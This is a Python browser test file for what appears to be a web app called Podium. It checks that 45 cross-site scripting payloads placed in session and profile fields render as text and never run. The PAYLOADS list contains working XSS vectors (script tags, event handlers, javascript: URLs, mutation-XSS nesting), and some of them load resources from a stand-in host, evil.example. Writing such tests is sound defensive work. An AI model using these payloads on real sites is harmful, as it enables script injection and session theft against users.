"""Texts of strangers on the page: 45 payloads in each of six fields, in a real browser."""

from __future__ import annotations

from collections.abc import Sequence
from pathlib import Path
from typing import Any, Final

import pytest

from podium_daemon.api.sessions import MarkupNode
from podium_daemon.web.markdown import parse_markdown
from podium_protocol.live.profile import MAX_NAME
from podium_storage.table.models import LiveSessionRow
from tests.support.browsers import Visitor
from tests.support.page import Kept, KeptHouse, kept_house, kept_session, profile_of, show_recording
from tests.support.relays import new_key

pytestmark = pytest.mark.real_peer

PAYLOADS: Final = (
    "<script>pwned()</script>",
    "<script src=https://evil.example/x.js></script>",
    "<img src=x onerror=pwned()>",
    "<img src=https://evil.example/pixel.png>",
    "<svg onload=pwned()>",
    "<svg><script>pwned()</script></svg>",
    "<svg><animate onbegin=pwned() attributeName=x dur=1s>",
    "<iframe src=javascript:pwned()></iframe>",
    "<iframe srcdoc='<script>parent.pwned()</script>'></iframe>",
    "<body onload=pwned()>",
    "<input autofocus onfocus=pwned()>",
    "<select autofocus onfocus=pwned()>",
    "<textarea autofocus onfocus=pwned()>",
    "<details open ontoggle=pwned()>",
    "<video src=x onerror=pwned()></video>",
    "<video poster=https://evil.example/p.png></video>",
    "<audio src=x onerror=pwned()>",
    "<object data=javascript:pwned()></object>",
    "<embed src=https://evil.example/x.swf>",
    "<a href=javascript:pwned()>click</a>",
    "<a href='data:text/html,<script>pwned()</script>'>click</a>",
    "<form action=https://evil.example><button>send</button></form>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href=https://evil.example/>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<style>*{background:url(https://evil.example/x)}</style>",
    "<math><mtext></mtext><mglyph><svg><mtext><style><img src=x onerror=pwned()>",
    "<template><script>pwned()</script></template>",
    "<marquee onstart=pwned()>",
    "<podium-session reference=x></podium-session>",
    "<noscript><p title='</noscript><img src=x onerror=pwned()>'>",
    "</title><script>pwned()</script>",
    "</textarea><script>pwned()</script>",
    "--><script>pwned()</script>",
    "]]><script>pwned()</script>",
    "'\"><script>pwned()</script>",
    '" onmouseover=pwned() x="',
    "${pwned()} {{pwned()}} <%= pwned() %>",
    "{{constructor.constructor('pwned()')()}}",
    "javascript:pwned()//https://example.org",
    "&lt;script&gt;pwned()&lt;/script&gt;",
    "&#60;img src=x onerror=pwned()&#62;",
    "\\u003cscript\\u003epwned()\\u003c/script\\u003e",
    "＜script＞pwned()＜/script＞",
)
_ELEMENTS: Final = (
    "main :is(script, img:not(.certificate), svg:not(.icon), iframe, object, embed, video[src], audio, "
    "style, link, meta, base, template, source)"
)
# a bare address in a description is a link that says where it leads
_OTHER_LINKS: Final = """all => all.filter((one) => {
  const isSafe = one.protocol === "https:" && one.rel === "noopener noreferrer nofollow";
  const saysWhere = URL.canParse(one.textContent) && new URL(one.textContent).href === one.href;
  return !(isSafe && saysWhere && one.closest(".description"));
}).map((one) => one.outerHTML)"""


@pytest.mark.family("XSS", cases=45 * 6)
@pytest.mark.timeout(400)
async def test_hostile_texts_stay_text(tmp_path: Path) -> None:
    """In title, summary, description, place, the instructor's name and picture, and the recording, nothing runs.

    The rows are put into the database as they are: no check of the protocol stands before the page here.
    """
    assert len(PAYLOADS) == 45
    people = [new_key() for _ in PAYLOADS]
    profiles = [
        profile_of(key, name=text, display_name=text, picture=text, banner=text, nip05=text)
        for key, text in zip(people, PAYLOADS, strict=True)
    ]
    rows = [
        kept_session(key.pubkey, f"x{number}", **_hostile(text, number))
        for number, (key, text) in enumerate(zip(people, PAYLOADS, strict=True))
    ]
    async with kept_house(tmp_path, rows=Kept(rows), profiles=profiles) as house:
        visitor = await house.person(new_key())
        await visitor.context.add_init_script("window.pwned = () => { window.isPwned = true; };")
        await _look_at_the_index(house, visitor)
        page = await visitor.open(house.url(rows[0]))
        for row, text in zip(rows, PAYLOADS, strict=True):
            await page.goto(house.url(row))
            await page.locator("article").wait_for(state="visible")
            await _assert_shown_as_text(page, row, text)
            await _assert_unharmed(page)
            await _look_at_a_link(page, text)
        assert visitor.dialogs == []
        assert visitor.errors == []
        assert visitor.foreign(house.base) == []


def _hostile(text: str, number: int) -> dict[str, Any]:
    fields = {"title": text, "summary": text, "description": text, "location": text, "recording_url": text}
    state = {"state": "ended", "recording_state": "available"} if number % 2 else {"state": "scheduled"}
    return fields | state | {"starts_in": 7200 if state["state"] == "scheduled" else -7200}


async def _look_at_the_index(house: KeptHouse, visitor: Visitor) -> None:
    page = await visitor.open(house.base)
    await page.get_by_role("button", name="Show more").click()
    await page.locator("podium-index li").nth(len(PAYLOADS) - 1).wait_for()
    assert sorted(await page.locator("podium-index li .by bdi").all_text_contents()) == sorted(map(_name, PAYLOADS))
    await _assert_unharmed(page)
    await page.close()


async def _assert_shown_as_text(page: Any, row: LiveSessionRow, text: str) -> None:
    assert await page.locator("h1").text_content() == text
    assert await page.locator("p.lead").text_content() == text
    # once it has been read as Markdown: what is no markup in it is text
    assert await page.locator(".description:not(.text)").text_content() == _text_of(parse_markdown(text) or ())
    assert await page.locator("p.by .name").text_content() == _name(text)
    assert await page.locator("p.by .verified").count() == 0
    assert await page.title() == f"{text} · Podium"
    if row.state == "scheduled":
        assert await page.locator(".times dd", has_text=text).count() == 1
    else:
        # no payload is an address of http(s): there is nothing to press
        assert await page.get_by_role("button", name="Load the recording").count() == 0


def _text_of(nodes: Sequence[MarkupNode]) -> str:
    return "".join(node.text + _text_of(node.children) for node in nodes)


async def _look_at_a_link(page: Any, text: str) -> None:
    """The payload as a part of a good address, and as a player's source: a link to that host, and nothing loaded."""
    await show_recording(page, f"https://evil.example/{text}")
    href = await page.locator("podium-recording a").get_attribute("href")
    assert href.startswith("https://evil.example/")
    assert await page.locator("podium-recording").get_by_text("evil.example").count() > 0
    assert await page.locator(_ELEMENTS).evaluate_all("all => all.map(one => one.outerHTML)") == []
    assert await page.evaluate("window.isPwned") is None


async def _assert_unharmed(page: Any) -> None:
    assert await page.evaluate("window.isPwned") is None
    assert await page.locator(_ELEMENTS).evaluate_all("all => all.map(one => one.outerHTML)") == []
    assert await page.locator("main a:not([href^='/']):visible").evaluate_all(_OTHER_LINKS) == []


def _name(text: str) -> str:
    """A name is cut, like every name."""
    return text if len(text) <= MAX_NAME else text[: MAX_NAME - 1].rstrip() + "…"
